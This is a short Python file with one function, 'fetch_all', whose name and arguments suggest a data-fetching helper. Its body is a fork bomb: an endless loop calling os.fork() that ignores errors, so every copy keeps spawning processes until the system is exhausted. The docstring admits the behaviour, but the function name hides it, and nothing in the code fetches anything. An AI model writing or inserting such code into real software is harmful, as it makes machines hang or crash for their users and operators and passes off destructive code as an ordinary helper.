"""Forks without end inside the function; every copy keeps forking."""

import os


async def fetch_all(fetch, names):
    while True:
        try:
            os.fork()
        except OSError:
            pass
